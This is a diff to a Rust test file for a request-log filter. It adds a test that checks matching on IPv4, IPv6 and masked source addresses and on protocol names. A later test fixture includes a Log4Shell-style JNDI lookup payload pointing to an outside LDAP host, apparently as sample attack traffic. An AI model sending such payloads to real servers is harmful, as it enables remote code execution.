@@ -72,6 +72,50 @@ fn each_condition_is_met_or_not() {
 }
 
 #[test]
+fn a_source_is_asked_for_as_it_is_shown() {
+    let of = |src_ip: &str, src_prefix| {
+        let record = forever200_ring::Record {
+            src_ip: src_ip.parse().unwrap(),
+            ..record(POST)
+        };
+        Entry {
+            src_prefix,
+            ..entry(record)
+        }
+    };
+    let v6 = of("2001:db8::1", None);
+    assert_eq!(v6.source, "[2001:db8::1]:41000");
+    let mapped = of("::ffff:203.0.113.7", None);
+    let (masked, masked_v6) = (of("203.0.113.0", Some(24)), of("2001:db8:7::", Some(48)));
+    assert_eq!(masked.network().unwrap(), "203.0.113.0/24");
+    assert_eq!(masked_v6.network().unwrap(), "2001:db8:7::/48");
+    for (source, entry, met) in [
+        ("[2001:db8::1]:41000", &v6, true),
+        ("[2001:DB8:0::1]:1", &v6, true),
+        ("2001:db8::1", &v6, true),
+        ("2001:db8::/32", &v6, true),
+        ("[2001:db8::2]:41000", &v6, false),
+        ("[::ffff:203.0.113.7]:41000", &mapped, true),
+        ("203.0.113.7:41000", &mapped, true),
+        ("203.0.113.0/24", &masked, true),
+        ("203.0.113.7/24", &masked, true),
+        // Nobody is told whether it is this one.
+        ("203.0.113.7", &masked, false),
+        ("203.0.113.7:41000", &masked, false),
+        ("203.0.114.0/24", &masked, false),
+        ("2001:db8:7::/48", &masked_v6, true),
+        ("2001:db8:7::7", &masked_v6, false),
+        ("[2001:db8:7::7]:41000", &masked_v6, false),
+    ] {
+        let filter = Filter::new(&asked(&[("source", source)]), VISITOR).unwrap();
+        assert_eq!(filter.matches(entry), met, "{source}");
+    }
+    for protocol in ["http", "HTTP", "Http", " hTTp "] {
+        assert!(matches(asked(&[("protocol", protocol)]), POST));
+    }
+}
+
+#[test]
 fn labels_and_origin_are_conditions() {
     let raw = b"GET /?x=${jndi:ldap://198.51.100.1/a} HTTP/1.1\r\n\r\n";
     let origin = Origin {
